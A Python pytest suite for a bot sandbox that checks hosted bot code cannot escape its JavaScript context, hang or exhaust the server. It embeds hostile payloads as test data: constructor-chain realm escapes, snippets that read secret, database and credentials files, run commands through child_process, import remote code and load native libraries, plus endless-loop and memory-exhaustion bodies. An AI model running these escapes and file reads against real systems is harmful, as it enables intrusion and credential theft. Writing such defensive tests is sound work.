"""A bot can hurt nobody: what it tries against its host ends that one run, and the server lives."""

import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from workbench.sandbox.launcher import Sandbox, start_sandbox

RUNTIMES = ("vmcontext", "awslambda")

#: Ways out of a context: to the realm that made it.
ESCAPES = {
    "constructor of a function": "fetch.constructor",
    "constructor of the client": "medplum.constructor.constructor",
    "constructor of console": "console.log.constructor",
    "its own": "(() => {}).constructor",
}


class Host:
    """A sandbox with short limits, and the folder of files that bots try to reach."""

    def __init__(self, sandbox: Sandbox, client: httpx.Client, folder: Path) -> None:
        self.sandbox, self.client, self.folder = sandbox, client, folder

    def run(self, body: str, runtime: str, **fields: object) -> httpx.Response:
        """The answer of a new bot whose handler has this body."""
        made = {"name": "attack", "runtimeVersion": runtime}
        bot = self.client.post(f"admin/projects/{self.sandbox.project_id}/bot", json=made).json()
        path = f"fhir/R4/Bot/{bot['id']}"
        if fields:
            self.client.put(path, json={**self.client.get(path).json(), **fields}).raise_for_status()
        code = f"exports.handler = async (medplum, event) => {{ {body} }};"
        self.client.post(f"{path}/$deploy", json={"code": code}).raise_for_status()
        return self.client.post(f"{path}/$execute", json={})

    def lives(self, runtime: str) -> bool:
        """Whether the server still runs bots."""
        return self.run("return 'alive';", runtime).text == "alive"


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory, connect: Callable[[Sandbox], httpx.Client]) -> Iterator[Host]:
    """A sandbox whose bots may run for two seconds."""
    folder = tmp_path_factory.mktemp("host")
    (folder / "secret.txt").write_text("secret")
    with start_sandbox(folder / "data", bot_limit=2.0) as sandbox:
        yield Host(sandbox, connect(sandbox), folder)


ATTACKS = {
    "read a file": "(await IMPORT('node:fs')).readFileSync('FOLDER/secret.txt', 'utf8')",
    "read the database": "(await IMPORT('node:fs')).readFileSync('FOLDER/data/sandbox.db')",
    "read the credentials": "(await IMPORT('node:fs')).readFileSync('FOLDER/data/credentials.json', 'utf8')",
    "write a file": "(await IMPORT('node:fs')).writeFileSync('FOLDER/written', 'x')",
    "read the environment": "(await IMPORT('node:process')).env.PATH.length",
    "start a program": "(await IMPORT('node:child_process')).execSync('id').toString()",
    "listen": "(await IMPORT('node:process')) && Deno.listen({ port: 0 }).addr.port",
    "connect elsewhere": "(await fetch('http://127.0.0.1:PORT/')).status",
    "import from the web": "await IMPORT('https://example.com/x.js')",
    "load a library": "(await IMPORT('node:process')).dlopen({}, '/lib/x.so')",
}


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize("escape", ESCAPES)
def test_no_escape_reaches_the_machine(escape: str, runtime: str, host: Host) -> None:
    """Whatever realm a bot climbs into, no file, environment, program or other address is open to it."""
    with socket.socket() as other:
        other.bind(("127.0.0.1", 0))
        other.listen()
        port = str(other.getsockname()[1])
        attempts = ",".join(f"{name!r}: {attack!r}" for name, attack in ATTACKS.items())
        filled = attempts.replace("FOLDER", str(host.folder)).replace("PORT", port).replace("IMPORT(", "import(")
        body = f"""
          const out = {{}};
          for (const [name, attack] of Object.entries({{{filled}}})) {{
            try {{
              out[name] = await {ESCAPES[escape]}('fetch', 'return (async () => ' + attack + ')()')(fetch);
            }} catch (error) {{ out[name] = 'refused'; }}
          }}
          return out;
        """
        found = host.run(body, runtime).json()

    assert found == dict.fromkeys(ATTACKS, "refused")
    assert not (host.folder / "written").exists()


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_modules_are_no_way_around(runtime: str, host: Host) -> None:
    """What require gives, if it gives anything, is refused by the same walls."""
    reading = host.run(f"return require('fs').readFileSync('{host.folder}/secret.txt', 'utf8');", runtime)
    running = host.run("return require('child_process').execSync('id').toString();", runtime)

    assert [reading.status_code, running.status_code] == [400, 400]
    assert "secret" not in reading.text.replace("secret.txt", "")


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize(
    "body",
    ["await null; for (;;) {}", "await new Promise(() => {});"],
    ids=["loop", "promise that never settles"],
)
def test_endless_runs_end(body: str, runtime: str, host: Host) -> None:
    """A run without end is ended, its caller told as on the real runtime, and the next bot runs."""
    answer = host.run(body, runtime, timeout=1)
    expected = {
        "vmcontext": "Script execution timed out after 2000ms",
        "awslambda": "Task timed out after 1.00 seconds",
    }

    assert answer.status_code == 400
    assert expected[runtime] in answer.text
    assert host.lives(runtime)


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize(
    "body",
    [
        "const a = []; for (;;) a.push(new Array(1e6).fill(Math.random()));",
        "const a = []; for (;;) { a.push(new Uint8Array(5e7).fill(1)); await null; }",
        "let s = 'x'; for (;;) { s += s + Math.random(); }",
    ],
    ids=["heap", "buffers", "text"],
)
def test_memory_hogs_end(body: str, runtime: str, host: Host) -> None:
    """A run that takes all memory is ended, and neither the server nor another run with it."""
    answers: list[str] = []
    slow = "const t = Date.now(); while (Date.now() - t < 900) await null; return 'undisturbed';"
    other = threading.Thread(target=lambda: answers.append(host.run(slow, runtime).text))
    other.start()

    answer = host.run(body, runtime)
    other.join()

    assert answer.status_code == 400
    assert answers == ["undisturbed"]
    assert host.lives(runtime)


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_exits_end_only_their_run(runtime: str, host: Host) -> None:
    """A bot that ends its process ends nothing else."""
    leave = """
      const process = await console.log.constructor('return import("node:process")')();
      process.exit(3);
      await new Promise(() => {});
    """

    assert host.run(leave, runtime, timeout=1).status_code == 400
    assert host.lives(runtime)


def test_runs_do_not_see_each_other(host: Host) -> None:
    """What one vmcontext run leaves behind, in its context or the realm that made it, no other run finds."""
    mark = "globalThis.left = 1; Object.prototype.left = 1; return 'done';"
    seen = "return [typeof globalThis.left, typeof {}.left];"

    assert host.run(mark, "vmcontext").text == "done"
    assert host.run(seen, "vmcontext").json() == ["undefined", "undefined"]
